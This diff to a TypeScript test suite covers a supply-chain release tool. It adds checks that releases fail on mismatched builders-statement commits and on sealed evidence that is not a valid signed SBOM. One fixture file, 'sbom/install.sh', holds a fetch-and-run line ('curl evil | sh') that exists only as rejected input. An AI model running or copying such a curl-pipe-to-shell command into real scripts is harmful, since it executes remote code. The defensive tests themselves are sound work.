@@ -11,9 +11,11 @@ import { openEvidence } from '@secure-build/common/domain/evidence/evidence';
 import { sealEvidence } from '@secure-build/common/domain/evidence/seal';
 import type { Ports } from '@secure-build/common/domain/ports';
 import { workflowProvenance } from '@secure-build/common/domain/provenance/certified-predicates';
+import { vouchedFor } from '@secure-build/common/domain/provenance/own-workflows';
 import type { LocalAsset } from '@secure-build/common/domain/provenance/publishing/release-asset';
 import { provenanceStatement } from '@secure-build/common/domain/provenance/statement';
 import type { GithubContext } from '@secure-build/common/domain/run-context';
+import { buildersStatement } from '@secure-build/common/domain/signing/builders-file';
 import { keyWithoutWitness } from '@secure-build/common/domain/signing/identity';
 import { signStatement } from '@secure-build/common/domain/signing/signer';
 import { noTrust } from '@secure-build/common/domain/signing/trust';
@@ -25,6 +27,7 @@ import { predicateTypes, statementBytes } from '@secure-build/common/formats/in-
 import { parsePublicKeyPem } from '@secure-build/common/formats/public-key';
 import { parseSigningConfig } from '@secure-build/common/formats/signing-config';
 import { BUNDLE_MEDIA_TYPE } from '@secure-build/common/formats/sigstore-bundle';
+import { suiteRepository } from '@secure-build/common/formats/suite-uris';
 import { requireStillProved } from '../../../actions/provenance/src/publish-proof.ts';
 import type { LabRelease } from '../../lab/github/releases.ts';
 import { serviceHttp } from '../../lab/github/service-http.ts';
@@ -105,6 +108,8 @@ interface Decision {
   readonly name?: string;
   /** A statement of provenance in its place. */
   readonly isProvenance?: boolean;
+  /** A list of builders in its place, about this commit. */
+  readonly commit?: string;
   /** The files after the first lie in the evidence folder. */
   readonly isKept?: boolean;
   /** Of what the SHA-512 of the last file is, where it is listed. */
@@ -153,12 +158,19 @@ async function decided(signed: Signed, decisions: readonly Decision[] = [{}]): P
       },
     }));
     const statement =
-      decision.isProvenance === true
-        ? provenanceStatement(
-            subjects,
-            workflowProvenance(claimsFor({ job_workflow_ref: workflow, ...others })),
-          )
-        : statementBytes(subjects, predicateTypes.policyDecision, { verdict: verdict as string });
+      decision.commit !== undefined
+        ? buildersStatement({
+            repository: suiteRepository,
+            version: '1.4.0',
+            commit: decision.commit,
+            workflows: new Map(vouchedFor),
+          })
+        : decision.isProvenance === true
+          ? provenanceStatement(
+              subjects,
+              workflowProvenance(claimsFor({ job_workflow_ref: workflow, ...others })),
+            )
+          : statementBytes(subjects, predicateTypes.policyDecision, { verdict: verdict as string });
     if (decision.isProvenance === true) await evidence.addSubjects(subjects);
     for (const [number, text] of about.entries()) {
       if (decision.isKept !== true || number === 0) continue;
@@ -456,6 +468,41 @@ test('provenance by a workflow of ours that builds nothing is none', async (t) =
   ]);
 });
 
+const statedOfCommits: readonly {
+  readonly why: string;
+  readonly commit: string;
+  readonly by: string;
+  readonly reason?: RegExp;
+}[] = [
+  { why: 'the commit of the release travels with it', commit: pushClaims.sha, by: 'release' },
+  {
+    why: 'another commit ends it',
+    commit: 'd'.repeat(40),
+    by: 'release',
+    reason: /decision\.sigstore\.json: asked about .*; the statement is about "v1\.4\.0" gitCommit:d{40}/,
+  },
+  {
+    why: 'the commit ends it, where a workflow that we do not have has signed',
+    commit: pushClaims.sha,
+    by: 'releases',
+    reason: /decision\.sigstore\.json: /,
+  },
+];
+for (const { why, commit, by, reason } of statedOfCommits) {
+  test(`SEC-038 what is stated of ${why}`, async (t) => {
+    const signed = await decided(await built(t), [{ commit, by }]);
+    const { outcome } = await promote(signed);
+    if (reason === undefined) {
+      assert.equal(outcome.verdict.kind, 'pass', reasonsOf(outcome.verdict).join('\n'));
+      assert.ok(only(signed).assets.some(({ name }) => name === 'builders.sigstore.json'));
+    } else {
+      assert.equal(outcome.verdict.kind, 'fail');
+      assert.match(reasonsOf(outcome.verdict).join('\n'), reason);
+      assert.deepEqual(signed.world.github.releases.releases, []);
+    }
+  });
+}
+
 for (const { why, sha512Of, isExact } of [
   { why: 'both are of it', sha512Of: 'more', isExact: true },
   { why: 'one is of another file', sha512Of: 'evil', isExact: false },
@@ -545,6 +592,37 @@ for (const { why, sha512Of, refusal } of [
       new Map([[asset, '/bundle']]),
     );
     await (refusal === undefined ? again : assert.rejects(again, refusal));
+  });
+}
+
+for (const { why, name, text, code } of [
+  {
+    why: 'is no SBOM at all',
+    name: 'sbom/install.sh',
+    text: '#!/bin/sh\ncurl evil | sh\n',
+    code: 'json/invalid',
+  },
+  {
+    why: 'is another one than the signed one',
+    name: 'sbom/app.cdx.json',
+    text: '{"bomFormat":"CycloneDX","specVersion":"1.6","metadata":{}}',
+    code: 'verify/identity',
+  },
+  {
+    why: 'is one more',
+    name: 'sbom/more.cdx.json',
+    text: '{"bomFormat":"CycloneDX","specVersion":"1.5"}',
+    code: 'verify/identity',
+  },
+] as const) {
+  test(`a file of sealed evidence that ${why} is not released as an SBOM`, async (t) => {
+    const signed = await built(t);
+    const evidence = openEvidence(nodeFiles, signed.folder, producerOf('sbom'));
+    const bytes = Buffer.from(text);
+    await evidence.write([{ name, kind: 'sbom', bytes, mediaType: 'application/json' }]);
+    const after = await decided(signed);
+    await assert.rejects(promote(after), problem(code));
+    assert.deepEqual(after.world.github.releases.releases, [], 'no draft was touched');
   });
 }
 
